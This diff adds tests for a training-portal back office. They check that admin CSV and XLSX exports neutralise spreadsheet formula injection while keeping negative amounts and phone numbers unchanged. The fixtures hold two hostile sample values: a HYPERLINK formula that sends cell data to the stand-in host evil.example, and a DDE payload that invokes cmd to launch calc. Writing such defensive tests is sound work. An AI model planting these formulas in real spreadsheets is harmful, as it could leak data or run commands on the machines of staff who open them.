@@ -1,0 +1,37 @@
+"""Back-office exports neutralise spreadsheet formulas typed by CFAs (CSV/formula injection): a cell such as
+`=HYPERLINK(...)` must open in Excel as text for the OPCO's staff, never run; amounts stay numbers-as-typed."""
+import io
+
+from openpyxl import load_workbook
+
+import models
+from tests.portal.world import two_cfas
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
+
+
+def test_admin_csv_and_xlsx_exports_neutralise_formulas_typed_by_a_cfa(app, factory, make_client):
+    sud, nord, employer, staff = two_cfas(app, factory)
+    sud.document.original_name = FORMULA
+    sud.document.save()
+    models.Notification.update(message="@SUM(1+1)*cmd|' /C calc'!A0").where(
+        models.Notification.id == sud.notification.id).execute()
+    admin = make_client(staff.email)
+    csv_text = admin.get("/admin/document/export/csv/").get_data(as_text=True)
+    assert "=HYPERLINK" in csv_text and ";=HYPERLINK" not in csv_text and '\n"=HYPERLINK' not in csv_text
+    assert "'=HYPERLINK" in csv_text
+    notifications = admin.get("/admin/notification/export/csv/").get_data(as_text=True)
+    assert "'@SUM(1+1)" in notifications
+    workbook = load_workbook(io.BytesIO(admin.get("/admin/document/export/xlsx/").data))
+    cells = [c.value for row in workbook.active.iter_rows() for c in row if isinstance(c.value, str)]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))], cells
+    assert any(c == "'" + FORMULA for c in cells)
+
+
+def test_negative_amounts_are_not_mangled(app, factory, make_client):
+    from views.admin.base import _export_text
+
+    assert _export_text("-50,00 €") == "-50,00 €"
+    assert _export_text("-1 234,56") == "-1 234,56"
+    assert _export_text("+33 1 23 45 67 89") == "+33 1 23 45 67 89"
+    assert _export_text("-cmd") == "'-cmd"
